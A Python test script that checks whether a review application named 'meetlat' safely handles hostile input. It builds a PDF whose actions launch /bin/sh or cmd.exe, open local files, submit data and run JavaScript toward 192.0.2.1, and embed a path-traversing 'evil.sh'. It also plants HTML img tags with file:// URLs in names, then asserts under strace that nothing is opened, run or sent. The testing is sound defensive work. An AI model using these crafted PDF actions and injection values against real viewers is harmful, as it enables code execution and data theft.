#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Every name in the review is a piece of HTML that shows a file, and the plan is a PDF with every action a PDF can ask
for. All pages are looked at, tooltips and links included, under strace: no file that they name is opened, no other
program starts, nothing goes to the network.

nothing_opened.py PROGRAM
"""
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time

from driver import App, wait_for, xdotool

CALLS = 'execve,execveat,open,openat,openat2,connect,sendto'


def actions(folder):
    """The actions of the PDF by the words under which each stands."""
    victim = os.path.join(folder, 'victim-of-the-pdf.txt')
    return {
        'Start een programma': '/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >>',
        'Open een bestand': f'/S /Launch /F ({victim})',
        'Adres van een bestand': f'/S /URI /URI (file://{victim})',
        'Adres op het web': '/S /URI /URI (http://192.0.2.1/volg-mij)',
        'Ander document': f'/S /GoToR /F ({victim}) /D [0 /Fit]',
        'Document op een server': '/S /GoToR /F (//192.0.2.1/share/x.pdf) /D [0 /Fit]',
        'Gegevens versturen': '/S /SubmitForm /F << /FS /URL /F (http://192.0.2.1/formulier) >>',
        'Gegevens inlezen': f'/S /ImportData /F ({victim})',
        'Script uitvoeren': '/S /JavaScript /JS (app.launchURL("http://192.0.2.1/");)',
    }


def write_pdf(path, folder):
    """One page with a link for each action; the first one also on opening the document and the page."""
    wanted = actions(folder)
    lines, links = [], []
    for number, (words, action) in enumerate(wanted.items()):
        y = 760 - 40 * number
        lines.append(f'BT /F1 16 Tf 72 {y} Td ({words}) Tj ET')
        links.append(f'<< /Type /Annot /Subtype /Link /Border [0 0 0] /Rect [70 {y - 5} 330 {y + 16}] '
                     f'/A << /Type /Action {action} >> >>')
    content = '\n'.join(lines)
    launch = f'<< {next(iter(wanted.values()))} >>'
    script = f'<< {wanted["Script uitvoeren"]} >>'
    objects = [
        f'<< /Type /Catalog /Pages 2 0 R /OpenAction {launch} /AA << /WC {launch} >> '
        f'/Names << /JavaScript << /Names [(a) {script}] >> /EmbeddedFiles << /Names [(evil.sh) 6 0 R] >> >> >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> '
        f'/AA << /O {launch} >> /Annots [{" ".join(links)}] >>',
        f'<< /Length {len(content)} >>\nstream\n{content}\nendstream',
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
        '<< /Type /Filespec /F (../../evil.sh) /EF << /F 7 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 9 >>\nstream\n#!/bin/sh\nendstream',
    ]
    data, places = b'%PDF-1.7\n', []
    for number, body in enumerate(objects):
        places.append(len(data))
        data += f'{number + 1} 0 obj\n{body}\nendobj\n'.encode('latin-1')
    table = ''.join(f'{place:010} 00000 n \n' for place in places)
    end = f'xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}' \
          f'trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(data)}\n%%EOF\n'
    with open(path, 'wb') as file:
        file.write(data + end.encode('latin-1'))


def offences(trace, program):
    """The calls that a name or an action must have caused."""
    own = (f'execve("{program}"', 'execve("/proc/self/exe", ["meetlat", "--pdf-worker"', '<... execve resumed>')
    for line in trace.splitlines():
        if 'execve' in line:
            if not any(start in line for start in own):
                yield line
        elif re.search(r'victim-of|evil\.sh|192\.0\.2\.1|AF_INET', line):
            yield line


def hover(app, most=4):
    """Waits for the tooltips of what carries a nasty name."""
    for node in list(app.window.find_all(None, '<img'))[:most]:
        try:
            x, y, width, height = node.box()
        except Exception:  # gone meanwhile
            continue
        if width > 0 and height > 0:
            xdotool('mousemove', x + min(width // 2, 60), y + height // 2)
            time.sleep(0.9)


def follow_links(app, folder):
    pages = app.find(name='^Pages of the document')
    for words in actions(folder):
        text = wait_for('the text of the page', lambda: pages.text() if words in pages.text() else None, 30)
        x, y, width, height = pages.character_box(text.index(words) + 2)
        left, top, wide, high = pages.box()
        assert top < y < top + high, f'{words} is not on the screen'
        xdotool('mousemove', x + width // 2, y + height // 2)
        time.sleep(0.3)
        xdotool('click', 1)
        time.sleep(0.5)
        dialog = next(app.root.find_all('dialog'), None) or next(app.root.find_all('alert'), None)
        if dialog:
            assert words == 'Adres op het web', f'{words} is asked about'
            app.key('Escape')
            wait_for('the question to close', lambda: not list(app.root.find_all('dialog')))


def main(program):
    with tempfile.TemporaryDirectory() as folder:
        home = os.path.join(folder, 'home')
        os.makedirs(home)
        trace = os.path.join(folder, 'trace')
        for victim in ('victim-of-a-name.png', 'victim-of-the-pdf.txt'):
            shutil.copy('/etc/hostname', os.path.join(folder, victim))
        lead, rater = (os.path.join(folder, name + '.meetlat') for name in ('lead', 'rater'))
        nasty = f'<img src="file://{folder}/victim-of-a-name.png"><b>'

        def cli(verb, file, *arguments):
            subprocess.run([program, verb, file, *arguments], check=True, capture_output=True,
                           env=dict(os.environ, HOME=home, XDG_DATA_HOME=os.path.join(home, 'data')))

        def look(file, *pages):
            """Shows those pages of the file under strace; answers what was called."""
            if os.path.exists(trace):
                os.remove(trace)
            app = App('strace', '-D', '-f', '--seccomp-bpf', '-qq', '-s', '300', '-e', 'trace=' + CALLS, '-o', trace,
                      program, '--lang', 'en', file, home=home)
            time.sleep(2)
            for page in pages:
                page(app)
            assert app.close() == 0
            time.sleep(0.5)
            with open(trace, encoding='utf-8', errors='replace') as file:
                return file.read()

        def show(number):
            def page(app):
                app.key(f'alt+{number}')
                time.sleep(0.8)
                assert app.is_running()
                hover(app)
            return page

        write_pdf(os.path.join(folder, 'plan.pdf'), folder)
        cli('new', lead, '--title', nasty, '--lead', nasty + 'L')
        with open(os.path.join(folder, 'regions.tsv'), 'w', encoding='utf-8') as table:
            quoted = nasty.replace('"', "'")
            table.write(f'centrumgemeente\taliases\n{quoted}\t{quoted}2\nBeekdal\t\n')
        cli('regions', lead, '--import', os.path.join(folder, 'regions.tsv'))
        region = nasty.replace('"', "'")
        cli('plan', lead, '--region', region, '--title', nasty, os.path.join(folder, 'plan.pdf'))
        for name in ('A', 'B'):
            cli('rater', lead, '--name', nasty + name)
        cli('assign', lead, '--region', region, '--raters', nasty + 'A', '--raters', nasty + 'B')
        packets = []
        for name, level in (('A', '2'), ('B', '4')):
            own = os.path.join(folder, name + '.meetlat')
            cli('hand-out', lead, '--rater', nasty + name, '--to', own)
            for indicator in ('WE', 'PR', 'PA'):
                cli('score', own, '--rater', nasty + name, '--region', region, '--indicator', indicator, '--level', level,
                    '--reason', nasty, '--quote', 'Start een programma', '--kind', 'action')
            if name == 'A':
                shutil.copy(own, rater)
            cli('submit', own, '--rater', nasty + name, '--region', region, '--gap', 'BB=' + nasty)
            packets.append(os.path.join(folder, name + '.meetpak'))
            cli('hand-in', own, '--to', packets[-1])
        cli('take-in', lead, *packets)
        cli('decide', lead, '--region', region, '--indicator', 'WE', '--level', '3', '--kind', 'unclear', '--reason', nasty)

        called = look(rater, lambda app: hover(app), lambda app: follow_links(app, folder))
        called += look(lead, *[show(number) for number in range(1, 11)])

        # The trace is one: the workers and the project are in it, and the same eyes see what must not be there.
        assert called.count('execve') > 1 and 'lead.meetlat' in called, 'strace saw nothing'
        victim = os.path.join(folder, 'victim-of-a-name.png')
        subprocess.run(['strace', '-f', '-e', 'trace=' + CALLS, '-o', trace, 'cat', victim], check=True,
                       stdout=subprocess.DEVNULL)
        with open(trace, encoding='utf-8', errors='replace') as file:
            assert len(list(offences(file.read(), program))) >= 2, 'the check would not see an opened victim'
        found = list(offences(called, program))
        assert not found, 'opened, started or sent:\n' + '\n'.join(found[:20])
        print(f'{called.count(chr(10))} calls looked at; nothing was opened, started or sent')


if __name__ == '__main__':
    main(os.path.realpath(sys.argv[1]))
